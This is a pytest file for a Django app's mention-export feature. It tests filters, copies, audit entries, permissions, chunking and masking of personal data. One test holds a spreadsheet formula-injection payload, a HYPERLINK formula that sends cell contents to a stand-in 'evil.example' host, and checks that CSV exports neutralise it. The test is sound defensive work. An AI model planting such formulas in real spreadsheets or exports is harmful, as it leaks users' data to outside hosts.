"""Exports: what they hold, who may have them, what they leave behind."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet as pq
import pytest

from grapevine.core import access
from grapevine.core.models import AuditEntry
from grapevine.core.testing import NOON, deeds, signed_in
from grapevine.listen import formats
from grapevine.listen.actions import exports
from grapevine.listen.contracts.filters import Filter
from grapevine.listen.formats.columns import COLUMNS
from grapevine.listen.selectors import exports as selectors
from grapevine.listen.tests.telling import a_tale

pytestmark = pytest.mark.django_db


@pytest.fixture
def tale():
    return a_tale()


def export(role="member", **values):
    response = signed_in(role).post("/stream/export/", {"format": "csv", **values})
    if response.status_code != 200 or not response.streaming:
        return response, b""
    return response, b"".join(response.streaming_content)


def rows(data, separator=","):
    found = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator)
    named = {one.shown: one.name for one in COLUMNS}  # spreadsheets' files have headings for people
    head = [named.get(one, one) for one in next(found)]
    return [dict(zip(head, row, strict=True)) for row in found]


def test_an_export_holds_what_the_filters_let_through(tale):
    tale.say("Elsinore is cold", "Elsinore and Wittenberg", "nobody's place", url="https://example.org/1")
    response, data = export(brand="wittenberg")
    (row,) = rows(data)
    assert row["text"] == "Elsinore and Wittenberg"
    assert row["brands"] == "Elsinore, Wittenberg"
    assert row["watches"] == "Elsinore, Wittenberg"
    assert row["source"] == "Court news"
    assert row["author"] == "ophelia"
    assert row["published_at"] == "2026-03-02T12:02:00Z"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="grapevine-')


def test_a_search_is_exported_as_it_is_shown(tale):
    tale.say("Elsinore is cold", "Elsinore is not warm", "Elsinore was warm")
    _, data = export(q="warm NOT not")
    assert [row["text"] for row in rows(data)] == ["Elsinore was warm"]


def test_every_author_of_a_copy_is_exported_unless_one_is_enough(tale):
    line = "Elsinore has opened the new gate to the harbour and everybody is welcome to see it this week"
    first = tale.say(line, by="ophelia")[0]
    tale.say(line, by="hamlet")
    both = rows(export()[1])
    assert [(row["author"], row["copy_of"]) for row in both] == [("hamlet", str(first)), ("ophelia", "")]
    one = rows(export(each="first")[1])
    assert [(row["author"], row["copies"]) for row in one] == [("ophelia", "1")]
    assert len(rows(export(each="all")[1])) == 2


def test_hostile_cells_are_harmless_in_csv_and_untouched_elsewhere(tale):
    hostile = '=HYPERLINK("https://evil.example?leak="&A1) Elsinore'
    tale.say(hostile, by="@SUM(1)", title="+1", tags=("-2",))
    for kind, separator in (("csv", ","), ("excel-point", ","), ("excel-comma", ";")):
        (row,) = rows(export(format=kind)[1], separator)
        assert row["text"] == "'" + hostile
        assert row["author"] == "'@SUM(1)"
        assert row["title"] == "'+1"
        assert row["tags"] == "'-2"
    assert json.loads(export(format="jsonl")[1])["text"] == hostile
    (row,) = pq.read_table(io.BytesIO(export(format="parquet")[1])).to_pylist()
    assert row["text"] == hostile
    assert row["tags"] == ["-2"]


def test_the_pages_first_format_is_the_spreadsheets_of_the_language(tale):
    client = signed_in("member")
    client.user.language = "sv"
    client.user.save()
    page = client.get("/stream/export/").content.decode()
    assert page.index("excel-comma") < page.index("excel-point")
    client.user.language = "en"
    client.user.save()
    page = client.get("/stream/export/").content.decode()
    assert page.index("excel-point") < page.index("excel-comma")


def test_the_page_explains_every_column(tale):
    page = signed_in("member").get("/stream/export/").content.decode()
    for column in COLUMNS:
        assert f"<code>{column.name}</code>" in page


def test_an_export_leaves_an_entry_with_its_filters_and_the_number_of_rows(tale):
    tale.say("Elsinore one", "Elsinore two")
    export(brand="elsinore", format="jsonl")
    entry = AuditEntry.objects.get(action="listen.mentions.exported")
    assert entry.detail == {
        "format": "jsonl",
        "filter": {"brand_id": tale.brands["Elsinore"].pk, "folded": False},
        "rows": 2,
        "complete": True,
        "masked": False,
    }
    assert entry.by_name == "Horatio"


def test_an_export_that_is_left_leaves_an_entry_that_says_so(tale):
    tale.say(*[f"Elsinore {number}" for number in range(10)])
    file = exports.begin(
        chosen=Filter(), kind=formats.FORMATS["csv"], zone=NOON.tzinfo, by=access.SYSTEM, at=NOON
    )
    assert deeds()[-1] == "listen.mentions.exported"  # before the first byte
    pieces = iter(file)
    next(pieces)
    pieces.close()
    entry = AuditEntry.objects.get(action="listen.mentions.exported")
    assert entry.detail["complete"] is False


@pytest.mark.parametrize(("role", "status"), [("reader", 403), ("member", 200)])
def test_only_members_export(tale, role, status):
    assert signed_in(role).get("/stream/export/").status_code == status
    response, _ = export(role)
    assert response.status_code == status


def test_the_action_itself_asks_for_the_permission(tale):
    with pytest.raises(access.AccessDenied):
        exports.begin(
            chosen=Filter(),
            kind=formats.FORMATS["csv"],
            zone=NOON.tzinfo,
            by=signed_in("reader").user,
            at=NOON,
        )
    assert "listen.mentions.exported" not in deeds()


@pytest.mark.parametrize("values", [{"format": "exe"}, {"brand": "atlantis"}, {"q": "(x"}])
def test_what_can_not_be_exported_is_asked_again(tale, values):
    response, data = export(**values)
    assert response.status_code == 422
    assert data == b""
    assert "listen.mentions.exported" not in deeds()


def test_chunks_hold_every_post_once(tale):
    tale.say(*[f"Elsinore {number}" for number in range(25)])
    found = list(selectors.chunks(Filter(folded=False), size=7))
    assert [len(chunk) for chunk in found] == [7, 7, 7, 4]
    assert len({row["id"] for chunk in found for row in chunk}) == 25


def test_nothing_caught_is_a_file_with_its_columns(tale):
    _, data = export()
    assert data.decode().strip() == ",".join(one.name for one in COLUMNS if one.kind != "counts")


def test_personal_data_in_texts_is_hidden_when_that_is_wished(tale):
    tale.say("Elsinore, mail me at ophelia@elsinore.example or ring +45 20 12 34 56", by="ophelia")
    (plain,) = rows(export()[1])
    assert "ophelia@elsinore.example" in plain["text"]
    (row,) = rows(export(masked="yes")[1])
    assert row["text"] == "Elsinore, mail me at [e-mail address] or ring [phone number]"
    assert row["author"] == "ophelia"
    assert [
        entry.detail["masked"] for entry in AuditEntry.objects.order_by("pk") if "masked" in entry.detail
    ] == [
        False,
        True,
    ]
